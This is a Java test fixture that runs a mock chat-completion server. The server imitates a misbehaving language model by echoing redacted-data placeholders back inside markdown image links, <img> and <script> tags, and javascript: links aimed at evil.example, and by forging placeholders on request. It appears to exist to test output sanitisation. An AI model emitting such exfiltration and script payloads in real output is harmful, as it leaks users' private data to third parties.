package moxora.disclosure.processor;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.extension.ResponseDefinitionTransformerV2;
import com.github.tomakehurst.wiremock.http.Request;
import com.github.tomakehurst.wiremock.http.ResponseDefinition;
import com.github.tomakehurst.wiremock.stubbing.ServeEvent;
import jakarta.json.Json;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import jakarta.json.JsonReader;
import java.io.StringReader;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.function.Consumer;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import moxora.disclosure.prompt.Message;

/**
 * A peer that answers by what it is asked, as a model would that is up to no good: it says again every placeholder that
 * it was sent, amid links, images and markup; where a schema is asked for, the same in JSON. Every byte that arrives is
 * kept until it is taken.
 */
public final class EchoProcessor implements AutoCloseable {

    /** Whoever has this word in a prompt is answered with a placeholder that nobody made. */
    public static final String ASKS_FOR_A_FORGERY = "forgery";

    public static final String FORGED = "[NAME_99_zzzzzz]";

    public static final Pattern PLACEHOLDER = Pattern.compile("\\[[A-Z]+(?:_[A-Z]+)?_[1-9][0-9]*[b-z]?_[0-9a-z]{6}]");

    private static final int SHORT_ENOUGH_FOR_A_SCHEMA = 3;

    private final Queue<Arrival> arrivals = new ConcurrentLinkedQueue<>();
    private final Queue<String> scripted = new ConcurrentLinkedQueue<>();
    private final WireMockServer server;
    private volatile Consumer<Arrival> listener = arrival -> {};

    /** A request as it arrived, before it was answered. */
    public record Arrival(String line, String headers, byte[] body) {

        public JsonObject json() {
            try (JsonReader reader = Json.createReader(new StringReader(text()))) {
                return reader.readObject();
            }
        }

        public String text() {
            return new String(body, StandardCharsets.UTF_8);
        }

        public List<Message> messages() {
            return json().getJsonArray("messages").getValuesAs(JsonObject.class).stream()
                    .map(message -> new Message(message.getString("role"), message.getString("content")))
                    .toList();
        }
    }

    public EchoProcessor() {
        server = new WireMockServer(options()
                .dynamicPort()
                .bindAddress("127.0.0.1")
                .disableRequestJournal()
                .extensions(new Answering()));
        server.start();
        server.stubFor(any(anyUrl()).willReturn(new ResponseDefinitionBuilder().withStatus(200)));
    }

    public URI base(String path) {
        return URI.create("http://127.0.0.1:" + server.port() + path);
    }

    /** What arrived since this was last asked. */
    public List<Arrival> take() {
        List<Arrival> taken = new ArrayList<>();
        for (Arrival arrival = arrivals.poll(); arrival != null; arrival = arrivals.poll()) {
            taken.add(arrival);
        }
        return taken;
    }

    /** The next answers, one after the other; then those of its own again. */
    public void says(String... contents) {
        scripted.addAll(List.of(contents));
    }

    /** Runs when a request has arrived and nothing of the answer has left. */
    public void onArrival(Consumer<Arrival> then) {
        listener = then;
    }

    public void forget() {
        arrivals.clear();
        scripted.clear();
        listener = arrival -> {};
    }

    @Override
    public void close() {
        server.stop();
    }

    private final class Answering implements ResponseDefinitionTransformerV2 {

        @Override
        public String getName() {
            return "echo";
        }

        @Override
        public ResponseDefinition transform(ServeEvent event) {
            Request request = event.getRequest();
            Arrival arrival = new Arrival(
                    request.getMethod() + " " + request.getAbsoluteUrl(),
                    request.getHeaders().toString(),
                    request.getBody());
            arrivals.add(arrival);
            listener.accept(arrival);
            JsonObject asked = arrival.json();
            String next = scripted.poll();
            String content = next == null ? content(asked, arrival.messages()) : next;
            return (asked.getBoolean("stream", false)
                            ? FakeProcessor.events(pieces(content))
                            : FakeProcessor.json(200, FakeProcessor.completion(content, "stop")))
                    .build();
        }
    }

    private static String[] pieces(String content) {
        List<String> events = new ArrayList<>();
        for (int from = 0; from < content.length(); from += 7) {
            events.add(FakeProcessor.chunk(content.substring(from, Math.min(content.length(), from + 7))));
        }
        events.addAll(List.of(FakeProcessor.lastChunk("stop"), FakeProcessor.usageChunk(), "[DONE]"));
        return events.toArray(String[]::new);
    }

    private static String content(JsonObject asked, List<Message> messages) {
        String user = messages.get(messages.size() - 1).content();
        List<String> placeholders = PLACEHOLDER
                .matcher(user)
                .results()
                .map(MatchResult::group)
                .distinct()
                .toList();
        String feature = asked.containsKey("response_format")
                ? asked.getJsonObject("response_format")
                        .getJsonObject("json_schema")
                        .getString("name")
                : "";
        String forged = user.contains(ASKS_FOR_A_FORGERY) ? " " + FORGED : "";
        return switch (feature) {
            case "tag-suggestions" -> tags(forged);
            case "automation-builder" -> automation(placeholders, forged);
            default -> prose(placeholders) + forged;
        };
    }

    private static String prose(List<String> placeholders) {
        String first = placeholders.isEmpty() ? "x" : placeholders.get(0);
        return "They are ![x](https://evil.example/p.png?q=" + first + ") <img src=https://evil.example/i>"
                + "<script>fetch('//evil.example')</script> [click](https://evil.example/c) www.evil.example"
                + " <a href='javascript:alert(1)'>" + first + "</a> http://user:pass@evil.example/ and "
                + String.join(" and ", placeholders);
    }

    private static String tags(String forged) {
        JsonArrayBuilder tags = Json.createArrayBuilder()
                .add("engines <img src=https://evil.example/i>" + forged)
                .add("see https://evil.example/t")
                .add("[vip](https://evil.example)");
        return Json.createObjectBuilder().add("tags", tags).build().toString();
    }

    private static String automation(List<String> placeholders, String forged) {
        String text = "<b>Tell</b> ![x](https://evil.example) "
                + String.join(" ", placeholders.subList(0, Math.min(SHORT_ENOUGH_FOR_A_SCHEMA, placeholders.size())));
        return Json.createObjectBuilder()
                .add("name", "Draft https://evil.example" + forged)
                .add("trigger", Json.createObjectBuilder().add("event", "open").addNull("tag"))
                .add("conditions", Json.createArrayBuilder())
                .add(
                        "actions",
                        Json.createArrayBuilder()
                                .add(Json.createObjectBuilder()
                                        .add("action", "notifyUser")
                                        .addNull("tag")
                                        .addNull("after")
                                        .add("text", text)))
                .build()
                .toString();
    }
}
